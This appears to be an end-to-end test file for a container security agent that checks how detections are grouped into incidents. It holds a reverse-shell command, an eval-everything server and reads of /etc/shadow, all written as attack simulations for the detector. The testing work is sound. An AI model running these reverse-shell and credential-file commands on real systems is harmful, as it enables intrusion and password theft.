// Lines of one cause have one incident: a reverse shell in a container, and what has nothing to do with it.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';
import { MAX_BEGUN } from '../../src/evaluation/incidents.ts';
import { START_NS } from '../../src/evaluation/cause.ts';
import { startDockerd, type TestDockerd } from '../support/dockerd.ts';
import { buildApp, E2eAgent, settled, until, type DetectionLine } from '../support/e2e-agent.ts';
import { execInContainer, runContainer } from '../support/e2e-docker.ts';
import { importAttackImage } from './attacks/image.ts';
import { as, FAR, NET_ADMIN, reach } from './attacks/row.ts';

const PORT = 4444;

/** The app: a server that an intruder has run what he sends, each in a child of its own. */
const SERVER = 'mkfifo /c && while :; do read -r line < /c && { eval "$line" & }; done';

/** What he sends first: a shell whose input and output is a connection to him, and what he types into it. */
const REVERSE = `sh -c '${as('shop')} late ${FAR} ${PORT} /bin/busybox sh -c "cat /etc/shadow; cat /etc/shadow; true"; true'`;

let engine: TestDockerd;
before(async () => {
  engine = await startDockerd();
});
after(() => engine[Symbol.asyncDispose]());

const labels = { 'varvel.enable': 'true', 'varvel.app': 'shop' };

const nameOfProcess = ({ lineage }: DetectionLine): string => JSON.stringify(lineage);

test('a reverse shell is one incident, from its first line to what is typed into it; others are others', async () => {
  const image = await importAttackImage(engine);
  await using agent = await E2eAgent.start({ dockerd: engine });
  const container = await runContainer(engine, SERVER, { image, labels, hostConfig: NET_ADMIN });
  try {
    assert.equal(await execInContainer(container, reach(FAR, PORT)), 0);
    // Before that, all that runs is the app's own start.
    await delay(Number(START_NS) / 1e6);
    const lines = (): DetectionLine[] =>
      agent.detections().filter(({ app, seq }) => app?.['name'] === 'shop' && seq > 0);
    const send = async (line: string): Promise<number> => {
      const before = lines().length;
      assert.equal(await execInContainer(container, `cat > /c <<'END'\n${line}\nEND`), 0);
      await until('it is detected', () => lines().length > before);
      await settled(agent);
      return before;
    };
    await send(REVERSE);
    const attack = lines();
    const rules = new Set(attack.map(({ rule }) => rule));
    assert.ok(rules.has('Shell on a network connection'), [...rules].join());
    assert.ok(rules.has('Sensitive file read') && attack.length >= 3, [...rules].join());
    const incidents = new Set(attack.map(({ incident }) => incident));
    assert.equal(incidents.size, 1, attack.map(nameOfProcess).join('\n'));
    const [incident] = incidents;
    assert.match(incident ?? '', /^[a-z][0-9a-z]{7}$/);

    const [other] = lines().slice(await send('cat /etc/shadow'));
    assert.notEqual(other?.incident, incident, 'another child of the server');
    const beforeExec = lines().length;
    assert.equal(await execInContainer(container, 'cat /etc/shadow; true'), 0);
    await until('the exec is detected', () => lines().length > beforeExec);
    const [byExec] = lines().slice(beforeExec);
    assert.ok(![incident, other?.incident].includes(byExec?.incident), 'somebody from outside');
    for (const { rule, incident: none } of agent.detections().filter(({ seq }) => seq === 0))
      assert.equal(none, undefined, `${rule} is the agent’s own`);
  } finally {
    await container.remove({ force: true });
  }
});

const RULES = `
- rule: Data file opened
  desc: A test's own.
  condition: evt.type in (open, openat, openat2) and fd.name = /data/file
  output: opened by %proc.cmdline in %container.id
  priority: ERROR
`;

test('in a storm no line is lost, and each has its incident', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'varvel-e2e-incidents-'));
  mkdirSync(join(folder, 'data'));
  writeFileSync(join(folder, 'data', 'file'), 'x\n');
  const busy = 'for n in 1 2 3 4; do while :; do :; done & done; exec sleep 600';
  try {
    await using agent = await E2eAgent.start({
      dockerd: engine,
      noDefaultRules: true,
      rules: { 'own.yaml': RULES },
      config: ['limits: {enabled: false}'],
      streams: ['container: {enabled: false}'],
    });
    const hostConfig = { Binds: [buildApp(folder), `${join(folder, 'data')}:/data:ro`] };
    const apps = await Promise.all(
      Array.from({ length: 3 }, () => runContainer(engine, busy, { labels, hostConfig })),
    );
    try {
      const storms = apps.flatMap((app) => [1, 2].map(() => app));
      const codes = await Promise.all(
        storms.map((app) => execInContainer(app, '/app storm 400 /data/file')),
      );
      assert.deepEqual(
        codes,
        storms.map(() => 0),
      );
      const seen = await until('all lines are there', () => {
        const found = agent.detections('Data file opened');
        return found.length >= storms.length * 400 && found;
      });
      await settled(agent);
      assert.equal(seen.length, storms.length * 400);
      // Two execs a container: two causes, as long as none is so slow that it lasts for more than an incident may be silent.
      const byContainer = new Map<string, Set<string>>();
      for (const { incident, output_fields: fields } of seen) {
        assert.match(incident ?? '', /^[a-z][0-9a-z]{7}$/);
        const id = String(fields['container.id']);
        byContainer.set(id, (byContainer.get(id) ?? new Set()).add(incident ?? ''));
      }
      const all = [...byContainer.values()];
      for (const own of all) assert.ok(own.size >= 2 && own.size <= MAX_BEGUN + 1, `${own.size}`);
      assert.equal(
        new Set(all.flatMap((own) => [...own])).size,
        all.reduce((sum, { size }) => sum + size, 0),
        'containers share none',
      );
    } finally {
      await Promise.all(apps.map((app) => app.remove({ force: true })));
    }
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
});
